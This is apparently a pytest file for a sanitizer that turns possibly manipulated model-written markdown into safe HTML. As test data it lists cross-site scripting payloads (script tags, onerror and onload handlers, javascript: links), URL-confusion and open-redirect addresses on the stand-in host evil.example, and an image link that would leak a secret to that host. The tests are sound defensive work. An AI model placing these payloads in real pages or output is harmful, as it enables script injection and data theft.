"""HTML that is safe to show, whatever a model was talked into writing."""

import re
import time

import pytest

from summary.markdown import MOST_BYTES, to_html

VIDEO = "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=92s"


def test_the_usual_markdown_looks_as_it_should() -> None:
    html = to_html("## Head\n\nA **bold** and *soft* word, `code`.\n\n3. three\n4. four\n\n|a|b|\n|-|-|\n|1|2|")
    for expected in ("<h2>Head</h2>", "<strong>bold</strong>", "<em>soft</em>", "<code>code</code>", "<td>2</td>"):
        assert expected in html
    assert '<ol start="3">' in html


def test_a_link_to_the_video_stays_and_opens_nothing_of_ours() -> None:
    assert to_html(f"[1:32]({VIDEO})") == (
        '<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ&amp;t=92s" '
        'rel="noopener noreferrer nofollow">1:32</a></p>\n'
    )


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/",
        "//evil.example/",
        "/logout",
        "javascript:alert(1)",
        "data:text/html,x",
        "https://youtube.com.evil.example/watch?v=a",
        "https://evil.example/https://www.youtube.com/watch?v=a",
        "https://evil.example@www.youtube.com/watch?v=a",
        r"https://evil.example\@www.youtube.com/watch?v=a",
        "https://www.youtube.com/redirect?q=https://evil.example",
        "https://www.youtube.com/shorts/../redirect?q=//evil.example",
        "https://www.youtube.com/shorts/%2e%2e/redirect?q=a",
        "https://www.youtube.com:8080/watch?v=a",
    ],
)
@pytest.mark.parametrize("form", ["[words]({})", "[words](<{}>)", "[words][1]\n\n[1]: {}", "words <{}>"])
def test_no_link_leads_elsewhere_and_its_words_stay(address: str, form: str) -> None:
    html = to_html(form.format(address))
    assert "<a" not in html
    assert "words" in html


def test_an_image_does_not_phone_home() -> None:
    html = to_html("![a](https://evil.example/a.png?q=secret) ![b][1]\n\n[1]: https://evil.example/b.png")
    assert "<img" not in html
    assert "evil" not in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<svg/onload=alert(1)>",
        "<iframe src='https://evil.example'></iframe>",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "<!--><script>alert(1)</script>-->",
        '[x](https://youtu.be/a "onmouseover=alert(1)")',
    ],
)
def test_raw_html_is_text(hostile: str) -> None:
    tags = set(re.findall(r"<(\w+)([^>]*)>", to_html(hostile)))
    assert "&lt;" in to_html(hostile) or "<a" in to_html(hostile)
    assert {name for name, _ in tags} <= {"p", "code", "pre", "a"}
    assert not any("on" in attributes.replace("noopener", "") for _, attributes in tags)


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "[a](", "[a](<", "*a _b ", "`x``", ">", "- ", "(", "&", '[a](x "', "[a]: <x\n", "|a", "<a "],
)
def test_hostile_input_takes_time_in_proportion(unit: str) -> None:
    begun = time.process_time()
    to_html(unit * (20_000 // len(unit)))
    assert time.process_time() - begun < 3


def test_input_behind_the_limit_is_left_out() -> None:
    html = to_html("é" * MOST_BYTES + "end")
    assert len(html.encode()) <= MOST_BYTES + 10
    assert "�" not in html


def test_text_that_is_no_unicode_is_shown_nevertheless() -> None:
    assert to_html("a\ud800b\x00c") == "<p>a?b�c</p>\n"
